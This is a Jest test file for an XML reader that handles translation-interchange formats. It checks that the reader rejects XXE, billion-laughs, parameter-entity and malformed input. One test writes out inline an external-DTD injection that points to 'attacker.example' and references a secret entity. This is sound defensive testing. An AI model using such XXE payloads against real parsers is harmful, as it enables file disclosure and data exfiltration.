import fs from 'node:fs';
import path from 'node:path';
import { InterchangeError, readBilingual } from '../../../../server/engine/formats/bilingual';
import { parseXml, textOf } from '../../../../server/engine/formats/bilingual/xml-reader';

const fixture = (name: string) =>
  fs.readFileSync(path.join(__dirname, '../../../fixtures/interchange', name));

function codeOf(fn: () => unknown): string {
  try {
    fn();
  } catch (e) {
    expect(e).toBeInstanceOf(InterchangeError);
    return (e as InterchangeError).code;
  }
  throw new Error('expected an InterchangeError');
}

describe('xml-reader hostile input', () => {
  it('rejects XXE (external entity in the DOCTYPE) with xml_entities_forbidden', () => {
    expect(codeOf(() => readBilingual('xxe.xlf', fixture('xxe.xlf')))).toBe('xml_entities_forbidden');
  });

  it('rejects billion laughs before expanding anything', () => {
    expect(codeOf(() => readBilingual('lol.tmx', fixture('billion-laughs.tmx')))).toBe(
      'xml_entities_forbidden',
    );
  });

  it('rejects parameter entities that would fetch a remote DTD', () => {
    expect(codeOf(() => readBilingual('p.xlf', fixture('parameter-entity.xlf')))).toBe(
      'xml_entities_forbidden',
    );
  });

  it('never resolves references to entities declared elsewhere (external DTD): bad_xml', () => {
    const xml =
      '<?xml version="1.0"?><!DOCTYPE tmx SYSTEM "http://attacker.example/x.dtd"><tmx><body>&secret;</body></tmx>';
    expect(codeOf(() => parseXml(xml))).toBe('bad_xml');
  });

  it('decodes only the predefined entities and character references', () => {
    const root = parseXml(
      '<a t="x&quot;&#10;y">&lt;&gt;&amp;&apos;&quot;&#x4E2D;&#25991;<![CDATA[<&>]]></a>',
    );
    expect(root.attrs.t).toBe('x"\ny');
    expect(textOf(root)).toBe('<>&\'"中文<&>');
  });

  it.each([
    ['mismatched tags', '<a><b></a></b>'],
    ['bare ampersand', '<a>fish & chips</a>'],
    ['two roots', '<a/><b/>'],
    ['unclosed root', '<a><b/>'],
    ['raw control character', '<a>\u0001</a>'],
    ['reference to an illegal character', '<a>&#1;</a>'],
    ['duplicate attribute', '<a x="1" x="2"/>'],
    ['unquoted attribute', '<a x=1/>'],
    ['text after the root', '<a/>junk'],
    ['not xml at all', 'zh\ten'],
  ])('rejects %s as bad_xml', (_what, xml) => {
    expect(codeOf(() => parseXml(xml))).toBe('bad_xml');
  });

  it('rejects absurdly deep nesting instead of exhausting the stack', () => {
    expect(codeOf(() => parseXml(`${'<a>'.repeat(5000)}${'</a>'.repeat(5000)}`))).toBe('bad_xml');
  });

  it('accepts a plain DOCTYPE without entities and ignores it', () => {
    const root = parseXml(
      '<?xml version="1.0"?>\r\n<!DOCTYPE tmx SYSTEM "tmx14.dtd">\r\n<!-- c --><tmx a="1">x\r\ny</tmx>\n',
    );
    expect(root.name).toBe('tmx');
    expect(textOf(root)).toBe('x\ny');
  });
});
